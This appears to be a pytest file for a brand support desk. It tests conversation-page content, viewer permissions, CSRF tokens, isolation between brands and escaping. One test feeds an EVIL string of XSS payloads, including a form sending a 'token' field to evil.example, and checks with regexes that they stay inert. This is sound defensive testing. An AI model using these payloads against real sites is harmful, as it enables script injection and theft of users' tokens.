"""A conversation's page: what it shows, to whom, and that another brand's is not there."""

import re
from typing import Any

import pytest

from fedibrand.domain import Role
from fedibrand.testing import writing
from fedibrand.testing.brand import Brand
from fedibrand.testing.consumer import Consumer
from tests.desk.conftest import Join
from tests.desk.said import written
from tests.desk.stage import Teammate
from tests.journeys.story import Story

EVIL = (
    '<h1>still here</h1><script>alert(1)</script><img src=x onerror="alert(1)"><svg onload="alert(1)"></svg>'
    '<a href="javascript:alert(1)" onclick="alert(1)" title="x&quot; onmouseover=&quot;alert(1)">x</a>'
    '<style>*{display:none}</style><form action="https://evil.example"><input name="token"></form>'
)


async def test_a_conversation_shows_what_was_said(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    await story.answer(acme, alice, "Which kettle is it?")
    await story.settled()
    assert await ana.get(here) == 200
    for words in (
        "the kettle leaks",
        "Which kettle is it?",
        "public",
        "at its origin",
        "gone here",
        "delivered",
    ):
        assert words in ana.text
    assert ana.headers["Cache-Control"] == "no-store"
    assert "'unsafe" not in ana.headers["Content-Security-Policy"]


async def test_its_parts_are_there_for_a_page_that_is_open(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    for part, words in (
        ("thread", "the kettle leaks"),
        ("card", "This conversation"),
        ("composer", "Send"),
        ("budget", "2 answers left"),
    ):
        assert await ana.get(f"{here}/{part}") == 200
        assert words in ana.text
        assert "<html" not in ana.text
        assert ana.headers["Cache-Control"] == "no-store"


async def test_it_is_noted_by_role_that_it_was_opened(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate, join: Join
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    assert await story.rows("SELECT role FROM opened") == []
    await ana.get(here)
    assert await story.rows("SELECT role FROM opened") == ["agent"]
    viewer = await join(acme, "Vera", Role.VIEWER)
    await viewer.get(f"{here}/thread")
    assert sorted(await story.rows("SELECT role FROM opened")) == ["agent", "viewer"]


async def test_a_viewer_reads_and_is_offered_nothing_else(
    story: Story, acme: Brand, alice: Consumer, join: Join
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    viewer = await join(acme, "Vera", Role.VIEWER)
    assert await viewer.get(here) == 200
    assert "the kettle leaks" in viewer.text
    for what in ("answer", "note", "turn", "assign", "label", "ignore", "let-go"):
        assert f'action="{here}/{what}' not in viewer.text


@pytest.mark.parametrize(
    "what",
    [
        *(
            "answer",
            "canned",
            "note",
            "label",
            "assign",
            "turn",
            "listen",
            "let-go",
            "let-go/{holding}",
            "ignore",
        ),
        *("heed", "answers/{answer}/edit", "answers/{answer}/withdraw"),
    ],
)
async def test_a_viewer_can_do_nothing(
    story: Story, acme: Brand, alice: Consumer, join: Join, what: str
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    answer = await story.answer(acme, alice, "Which kettle is it?")
    holding = (await story.held(acme)).id
    viewer = await join(acme, "Vera", Role.VIEWER)
    await viewer.get(here)
    before = await everything(story)
    path = what.format(holding=holding, answer=answer)
    status = await viewer.post(
        f"{here}/{path}",
        text="I may not",
        label="kettles",
        to="resolve",
        holding=holding,
        member="Vera",
        version="1",
    )
    assert status == 403
    assert "Your role does not allow this." in viewer.text
    assert await everything(story) == before


async def test_nothing_is_done_without_the_pages_token(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    await ana.get(here)
    before = await everything(story)
    for what in ("answer", "canned", "note", "label", "assign", "turn", "listen", "let-go", "ignore", "heed"):
        assert (
            await ana.post(f"{here}/{what}", token="0" * 64, text="not from here", label="x", to="resolve")
            == 403
        )
    assert await everything(story) == before


async def test_no_conversation_of_another_brand_is_there(
    story: Story, acme: Brand, zenith: Brand, alice: Consumer, join: Join, ana: Teammate
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    answer, holding = await story.answer(acme, alice, "Which kettle is it?"), (await story.held(acme)).id
    zoe = await join(zenith, "Zoe", Role.OWNER)
    await written(story, zenith, alice, "the clock is late")
    await zoe.get(f"{zoe.desk}")
    token, before = zoe.token, await everything(story)
    theirs = here.replace(acme.id, zenith.id)
    for path in (here, theirs):
        for part in ("", "/thread", "/card", "/composer", "/budget", f"/answers/{answer}"):
            assert await zoe.get(f"{path}{part}") == 404
            assert "kettle" not in zoe.text
        for what in (
            *("answer", "canned", "note", "label", "assign", "turn", "listen", "let-go", "ignore", "heed"),
            *(f"let-go/{holding}", f"answers/{answer}/edit", f"answers/{answer}/withdraw"),
        ):
            fields = {"text": "not mine", "label": "x", "to": "resolve", "holding": holding, "version": "1"}
            assert await zoe.post(f"{path}/{what}", token=token, **fields) == 404
    assert await everything(story) == before


async def test_an_answer_or_post_of_another_brand_is_not_there_in_ones_own_conversation(
    story: Story, acme: Brand, zenith: Brand, alice: Consumer, ana: Teammate
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    await written(story, zenith, alice, "the clock is late")
    theirs = (await story.holdings(zenith))[0].id
    answer = await story.answer(zenith, alice, "Which clock?")
    await ana.get(here)
    token, before = ana.token, await everything(story)
    assert await ana.get(f"{here}/answers/{answer}") == 404
    assert await ana.post(f"{here}/answers/{answer}/edit", token=token, text="x", version="1") == 404
    assert await ana.post(f"{here}/answers/{answer}/withdraw", token=token) == 404
    assert await ana.post(f"{here}/let-go/{theirs}", token=token) == 404
    assert await ana.post(f"{here}/answer", token=token, text="Mine?", holding=theirs) == 404
    assert await everything(story) == before


async def test_what_was_edited_says_so_and_what_was_deleted_leaves_that_alone(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate
) -> None:
    post = await alice.mention(acme, "the kettle leaks")
    await story.settled()
    here = f"{ana.desk}/c/{(await story.threads(acme))[0].id}"
    await alice.edit(post, f"{acme.row.acct} the red kettle leaks")
    await story.settled()
    await ana.get(here)
    assert "edited" in ana.text
    assert "the red kettle leaks" in ana.text
    await alice.delete(post)
    await story.settled()
    await ana.get(here)
    assert "withdrawn by its author" in ana.text
    assert "kettle" not in ana.text
    assert "Nothing is held here any more" in ana.text


async def test_hostile_names_and_words_stay_inert(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate, monkeypatch: pytest.MonkeyPatch
) -> None:
    await alice.update_profile(name=EVIL, summary=EVIL)
    monkeypatch.setattr(writing, "render", lambda _text, _people: EVIL)
    here = await written(story, acme, alice, "anything")
    await ana.get(here)
    assert "still here" in ana.text
    assert "&lt;script&gt;" in ana.text, "the name is shown as it is"
    (words,) = re.findall(r'<div class="words" dir="auto"[^>]*>(.*?)</div>', ana.text, re.DOTALL)
    assert "javascript:" not in words
    bare = re.sub(r'"[^"]*"', "", words)
    assert not re.search(r"<(script|img|svg|iframe|style|form|input)\b|<[^>]*\bon\w+=", bare)
    around = ana.text.replace(words, "")
    assert not re.search(
        r"<(img|svg|iframe|style)\b|<[^>]*\son\w+=|javascript:|<script(?! src=./desk)", around
    )


async def test_a_name_or_handle_that_may_imitate_is_flagged(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate
) -> None:
    here = await written(story, acme, alice, "the kettle leaks")
    await ana.get(here)
    assert "Look twice" not in ana.text
    await alice.update_profile(name="Your B\u0430nk")
    await story.settled()
    await ana.get(here)
    assert "Look twice" in ana.text


async def everything(story: Story) -> list[Any]:
    """Return all that a member could have changed."""
    tables = ("conversation", "answer", "note", "label", "delivery", "consumer", "holding", "notification")
    return [await story.rows(f"SELECT * FROM {table}") for table in (*tables, "picture", "commitment")]


async def test_words_from_right_to_left_read_right(
    story: Story, acme: Brand, alice: Consumer, ana: Teammate
) -> None:
    here = await written(story, acme, alice, "الغلاية تسرب")
    await ana.get(here)
    before, _, _ = ana.text.partition("الغلاية")
    assert 'class="words" dir="auto"' in before[-200:]
    assert "<bdi>" in ana.text
